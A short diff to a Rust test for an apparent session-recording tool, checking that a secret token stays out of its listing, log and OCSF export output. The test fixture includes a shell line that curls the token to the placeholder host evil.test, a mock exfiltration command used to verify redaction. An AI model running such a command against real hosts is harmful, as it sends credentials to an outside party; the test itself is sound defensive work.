@@ -115,7 +115,12 @@ fn a_record_is_exported_and_counted_without_its_secrets() {
         let variable = format!("TOKEN={SECRET}");
         let options = ["--accept-risk", "credential-inside", "--env", &variable];
         let script = "/bin/echo $TOKEN >/dev/null; curl -sS -m 5 http://evil.test/$TOKEN; true";
-        assert_eq!(operator.run(&options, script).exit, 0);
+        assert_eq!(operator.run(&options, &format!("{script} {SECRET}")).exit, 0);
+        // Nor does anything else tell it that is kept of the session.
+        for verb in ["ls", "show", "log"] {
+            let told = operator.bastide(&[verb, "--json"]).stdout;
+            assert!(told.contains("curl") && !told.contains(SECRET), "{verb}: {told}");
+        }
         let exported = operator.bastide(&["log", "export", "--format", "ocsf"]);
         assert_eq!(exported.exit, 0, "{exported:?}");
         assert!(!exported.stdout.contains(SECRET), "a secret is exported");
